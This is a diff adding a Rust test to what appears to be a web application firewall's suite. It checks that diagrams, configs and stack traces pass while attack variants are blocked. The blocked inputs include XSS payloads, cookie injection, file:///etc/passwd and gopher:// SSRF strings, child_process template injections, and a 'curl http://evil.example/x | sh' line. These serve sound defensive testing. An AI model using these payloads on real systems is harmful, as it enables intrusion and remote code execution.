@@ -5480,3 +5480,135 @@ fn holdout63_to_65_headers_types_and_snippets_pass_and_their_attacks_still_score
         }
     }
 }
+
+#[test]
+fn holdout63_to_65_shapes_pass_and_their_attacks_still_score() {
+    let waf = waf_with("{}");
+    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);
+
+    // 4300: a `Set-Cookie:` named after other text on its line (a sequence diagram documenting a
+    // login) and a VCL's comparison of the `Cookie` header set no cookie.
+    for v in [
+        "@startuml\nactor User as U\nparticipant \"Web App\" as W\nU -> W : POST /login (email, password)\nalt password matches\n  W --> U : Set-Cookie: session=...\nelse invalid\n  W --> U : 401\nend\n@enduml",
+        "sequenceDiagram\n    U->>W: POST /login\n    W->>+A: verify(email, pw)\n    A-->>-W: 200 Set-Cookie: sid=...; HttpOnly\n",
+        "sub vcl_recv {\n    if (req.http.Cookie !~ \"(^|;\\s*)(sessionid|cart)=\") { unset req.http.Cookie; }\n    if (req.http.cookie == \"a=b\") { return (pass); }\n}\n",
+    ] {
+        for o in as_field_and_query(&waf, v) {
+            assert!(!o.blocked && rule(&o, 4300).is_none(), "{v}: {o:?}");
+        }
+    }
+    // An assignment, a cookie string with its attributes, `document.cookie`, a `<meta>` that sets
+    // one and a header line (at the start, or after a line break, also in a diagram) still do.
+    for q in [
+        "document.cookie=\"sid=1234; path=/\"",
+        "x.cookie=\"sessionid=1234\"",
+        "d.cookie += \"sid=2\"",
+        ".cookie;expires=",
+        "a.cookie(\"x\"); domain=.example.dom",
+        "<meta http-equiv=\"set-cookie\" content=\"sid=1\">",
+        "<script>document.cookie=\"sessionid=1234; domain=.example.dom\";</script>",
+        "Set-Cookie: sid=evil",
+        "x\r\nSet-Cookie: sid=evil",
+        "x\n  Set-Cookie: sid=evil",
+        "@startuml\nA -> B : x\nSet-Cookie: sid=evil\n@enduml",
+    ] {
+        for o in as_field_and_query(&waf, q) {
+            assert!(o.blocked && rule(&o, 4300) == Some(5), "{q}: {o:?}");
+        }
+    }
+
+    // 4100/4104: a Graphviz graph, its attribute lists (`style="rounded,filled"`) and an
+    // HTML-like label of inert tags with presentational attributes; pandas' DataFrame HTML, whose
+    // `<style scoped>` only lays out the table that carries its class.
+    let dot = "digraph deps {\n  rankdir=LR;\n  node [shape=box, style=\"rounded,filled\", fillcolor=\"#eef2ff\"];\n  \"api-gateway\" -> \"auth-svc\" [label=\"gRPC\"];\n  \"orders-svc\" -> \"payments-svc\" [label=\"HTTP/2\", style=dashed];\n  legend [shape=plaintext, label=<<TABLE BORDER=\"0\"><TR><TD><FONT COLOR=\"red\">red</FONT> = async</TD></TR></TABLE>>];\n}\n";
+    let frame = "<div>\n<style scoped>\n    .dataframe tbody tr th:only-of-type { vertical-align: middle; }\n    .dataframe thead th { text-align: right; }\n</style>\n<table border=\"1\" class=\"dataframe\">\n  <thead>\n    <tr style=\"text-align: right;\"><th></th><th>plan</th></tr>\n  </thead>\n  <tbody>\n    <tr><th>0</th><td>basic</td></tr>\n  </tbody>\n</table>\n</div>";
+    for v in [dot, "strict graph { a -- b [style=bold]; }", frame] {
+        let o = post("/render", "text/plain", v, &waf);
+        assert!(!o.blocked && rule(&o, 4100).is_none() && rule(&o, 4104).is_none(), "{v}: {o:?}");
+        for o in as_field_and_query(&waf, v) {
+            assert!(!o.blocked, "{v}: {o:?}");
+        }
+    }
+    assert!(context::dot_graph(dot.to_ascii_lowercase().as_bytes()));
+    assert!(!context::dot_graph(b"graphql { user { id } }"));
+    // A label that acts, a handler or a script URL in the graph, markup after it; a stylesheet
+    // on the page's elements or on a class the value's markup does not carry, one that loads, a
+    // handler beside an inert sheet.
+    let label = |l: &str| dot.replace("<FONT COLOR=\"red\">red</FONT>", l);
+    for (q, rules) in [
+        (label("<img src=x onerror=alert(1)>"), &[4100, 4102, 4104][..]),
+        (label("<script>alert(1)</script>"), &[4100, 4101]),
+        (label("<iframe src=\"https://evil.example/\"></iframe>"), &[4100, 4104]),
+        (dot.replace("style=dashed", "style=dashed onmouseover=alert(1) x=y"), &[4102]),
+        (dot.replace("label=\"gRPC\"", "URL=\"javascript:alert(1)\""), &[4103]),
+        (dot.replace("style=dashed", "style=\"x:expression(alert(1))\""), &[4105]),
+        (format!("{dot}<svg onload=alert(1)>"), &[4100, 4102]),
+        (frame.replace(".dataframe thead th", "body"), &[4100, 4104]),
+        (frame.replace(".dataframe thead th", ".login-form"), &[4100, 4104]),
+        (frame.replace("text-align: right; }", "background: url(https://evil.example/t.gif) }"), &[4100, 4104]),
+        (frame.replace("<style scoped>", "<style scoped>\n@import 'https://evil.example/x.css';"), &[4100, 4104]),
+        (frame.replace("<td>basic</td>", "<td onclick=alert(1)>basic</td>"), &[4100, 4102]),
+    ] {
+        let o = post("/render", "text/plain", &q, &waf);
+        assert!(o.blocked && rules.iter().any(|&id| rule(&o, id) == Some(5)), "{q}: {o:?}");
+    }
+
+    // 3502: a Node.js stack trace names an ES module's frames by `file:///` URIs.
+    let trace = "Generating single mermaid chart\nError: Evaluation failed: Error: Lexical error on line 7.\n    at ExecutionContext._evaluate (/usr/local/lib/node_modules/puppeteer-core/lib/cjs/ExecutionContext.js:229:15)\n    at async renderMermaid (file:///usr/local/lib/node_modules/@mermaid-js/mermaid-cli/src/index.js:266:22)\n    at file:///app/bin/render.mjs:12:3";
+    let o = json_post(&waf, &serde_json::json!({ "results": [{ "status": "error", "stderr": trace }] }).to_string());
+    assert!(!o.blocked && rule(&o, 3502).is_none(), "{o:?}");
+    assert!(context::stack_frame_uris(trace.to_ascii_lowercase().as_bytes()));
+    // A URI outside a frame line, a frame's place that goes up or is no position, one frame
+    // alone, another scheme: each still counts.
+    for q in [
+        "file:///etc/passwd".to_string(),
+        format!("{trace}\nfile:///etc/passwd"),
+        trace.replace("/app/bin/render.mjs", "/app/../../etc/passwd"),
+        trace.replace("render.mjs:12:3", "render.mjs"),
+        trace.replace("at file:///app/bin/render.mjs:12:3", "at x (file:///etc/passwd) file:///etc/shadow:1:1"),
+        "    at async main (file:///etc/passwd:1:1)".to_string(),
+        trace.replace("file:///app/bin/render.mjs:12:3", "gopher://127.0.0.1:70/_x:1:2"),
+    ] {
+        for o in as_field_and_query(&waf, &q) {
+            assert!(o.blocked && rule(&o, 3502) == Some(5), "{q}: {o:?}");
+        }
+    }
+
+    // 3403: Erlang maps are no interpolation; a Ruby program (a Vagrantfile) interpolates by
+    // design, and its provisioning script's `&& sudo` is a script's (3200): both weak, one
+    // program's signal.
+    let config = "[\n  {chat_srv, [{port, 8080}, {motd, <<\"Welcome! Be nice & don't spam :)\">>}]},\n  {kernel, [{logger, [{handler, default, logger_std_h, #{config => #{file => \"log/chat.log\"}}}]}]}\n].\n";
+    for v in [config, "#{level => info, 'my-key' := \"x.log\", 1 => #{}}"] {
+        for o in as_field_and_query(&waf, v) {
+            assert!(!o.blocked && rule(&o, 3403).is_none(), "{v}: {o:?}");
+        }
+    }
+    let vagrantfile = "# -*- mode: ruby -*-\nVagrant.configure(\"2\") do |config|\n  config.vm.box = \"acme/ubuntu-2204\"\n  config.vm.hostname = \"dev-#{ENV.fetch('USER', 'box')}\"\n  config.vm.provider \"virtualbox\" do |vb|\n    vb.memory = 4096\n  end\n  config.vm.provision \"shell\", inline: <<-SHELL\n    if [ -d /srv/app ]; then\n      sudo apt-get update -qq && sudo apt-get install -y jq\n    fi\n  SHELL\nend\n";
+    let o = json_post(&waf, &serde_json::json!({ "path": "Vagrantfile", "content": vagrantfile }).to_string());
+    assert!(!o.blocked && rule(&o, 3403) == Some(3) && rule(&o, 3200).is_none(), "{o:?}");
+    assert!(context::is_code(vagrantfile.to_ascii_lowercase().as_bytes()));
+    assert!(!context::is_code(b"if you can, please bring:\n- a towel\nend of list"));
+    assert!(!context::is_code(b"do this\nand that\nend"));
+    // Interpolation that calls, a map beside it, an item that is no `key =>`, a Handlebars
+    // constructor after a map; a Vagrantfile that pipes a download into a shell.
+    for q in [
+        "#{require.main.constructor._load('child_process').spawn('foo',['bar','bar'])}",
+        "#{process.binding(foo).spawn(foo2)}",
+        "\"#{File.read(\"/etc/passwd\")}\"",
+        "#{a => 1, b => 2} #{require('child_process').exec('id')}",
+        "#{x => 1, require('child_process').exec('id')}",
+        "#{a => 1} {{constructor.constructor('alert(1)')()}}",
+        "#{a => \"#{process.exit()}\"}",
+        "#{a => global.process.exit()",
+    ] {
+        for o in as_field_and_query(&waf, q) {
+            assert!(o.blocked && rule(&o, 3403) == Some(5), "{q}: {o:?}");
+        }
+    }
+    let o = json_post(
+        &waf,
+        &serde_json::json!({ "content": vagrantfile.replace("sudo apt-get install -y jq", "curl -s http://evil.example/x | sh") })
+            .to_string(),
+    );
+    assert!(o.blocked && rule(&o, 3200) == Some(5), "{o:?}");
+}
